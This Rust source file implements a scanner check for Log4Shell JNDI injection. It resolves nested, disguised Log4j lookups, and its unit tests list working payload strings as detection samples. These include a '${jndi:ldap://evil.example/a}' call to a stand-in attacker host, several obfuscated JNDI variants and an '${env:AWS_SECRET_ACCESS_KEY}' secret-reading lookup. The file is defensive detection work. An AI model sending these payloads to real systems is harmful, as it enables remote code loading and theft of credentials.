//! JNDI / Log4Shell: `${jndi:ldap://...}` lookups, however nested or disguised.
//!
//! Log4j resolves lookups from the inside out, so attackers build the word `jndi` out of other
//! lookups: `${${lower:j}ndi:...}`, `${${::-j}${::-n}di:...}`, `${${env:X:-j}ndi:...}`. This check
//! resolves them the same way, innermost first, replacing each non-JNDI lookup by the text it
//! evaluates to (its `:-` default, or its argument for `lower`/`upper`/`date`), for a bounded
//! number of rounds, then looks for `${jndi:`. Data-leaking lookups (`${env:AWS_SECRET}`,
//! `${sys:user.name}`) inside a value are High on their own.

use super::gate::lit;
use super::{Check, Family, Hit, Subject, Trigger};
use crate::finding::Severity::{Critical, High};

pub(crate) struct Jndi {
    leak: regex::Regex,
}

/// Rounds of innermost-lookup resolution; real payloads nest three or four deep.
const ROUNDS: usize = 8;

impl Jndi {
    pub fn new() -> Result<Jndi, String> {
        Ok(Jndi {
            leak: super::regex(r"\$\{\s*(?:env|sys|java|ctx|main|bundle|docker|k8s|spring|log4j|sd|map|marker|web|event|base64|jvmrunargs)\s*:")?,
        })
    }
}

/// Resolves innermost `${...}` lookups that are not `jndi:` (see the module docs).
fn resolve(text: &str) -> String {
    let mut cur = text.to_string();
    for _ in 0..ROUNDS {
        let mut out = String::with_capacity(cur.len());
        let mut changed = false;
        let mut rest = cur.as_str();
        while let Some(open) = rest.find("${") {
            // Innermost: no further `${` before the next `}`.
            let after = &rest[open + 2..];
            let Some(close) = after.find('}') else { break };
            if let Some(inner_open) = after[..close].find("${") {
                out.push_str(&rest[..open + 2 + inner_open]);
                rest = &rest[open + 2 + inner_open..];
                continue;
            }
            let body = &after[..close];
            out.push_str(&rest[..open]);
            if body.trim_start().starts_with("jndi") {
                out.push_str("${");
                out.push_str(body);
                out.push('}');
            } else {
                out.push_str(&evaluate(body));
                changed = true;
            }
            rest = &after[close + 1..];
        }
        out.push_str(rest);
        cur = out;
        if !changed {
            break;
        }
    }
    cur
}

/// What a non-JNDI lookup evaluates to, as far as building words goes.
fn evaluate(body: &str) -> String {
    if let Some(p) = body.find(":-") {
        return body[p + 2..].to_string();
    }
    match body.split_once(':') {
        Some(("lower" | "upper", arg)) => arg.to_string(),
        Some(("date", arg)) => arg.trim_matches('\'').to_string(),
        _ => String::new(),
    }
}

impl Check for Jndi {
    fn triggers(&self) -> &'static [Trigger] {
        const T: &[Trigger] = &[
            lit("${"),
        ];
        T
    }

    fn check(&self, s: &Subject<'_>) -> Option<Hit> {
        let at = s.text.find("${").unwrap_or(0);
        let resolved = resolve(s.text);
        let compact: String = resolved.chars().filter(|c| !c.is_whitespace()).collect();
        if compact.contains("${jndi:") || compact.contains("jndi:ldap") || compact.contains("jndi:rmi") || compact.contains("jndi:dns") {
            return Some(Hit::new(Family::Jndi, Critical, 0.97, at, "JNDI lookup"));
        }
        self.leak.find(s.text).map(|m| Hit::new(Family::Jndi, High, 0.75, m.start(), "Log4j data lookup"))
    }
}

#[cfg(test)]
mod tests {
    use super::super::testing::*;

    #[test]
    fn catches_jndi() {
        assert_family(
            "attack.jndi",
            &[
                "${jndi:ldap://evil.example/a}",
                "${${lower:j}ndi:${lower:l}dap://x/a}",
                "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x/a}",
                "${${env:NOPE:-j}ndi${env:NOPE:-:}${env:NOPE:-l}dap${env:NOPE:-:}//x/a}",
                "%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D",
                "${jNdI:rmi://x/a}",
                "${${upper:j}ndi:dns://x}",
                "${env:AWS_SECRET_ACCESS_KEY}",
            ],
            &["Price: ${price}", "Hello ${name}, welcome", "${", "$ {jndi}", "costs $5 {approx}"],
        );
    }
}
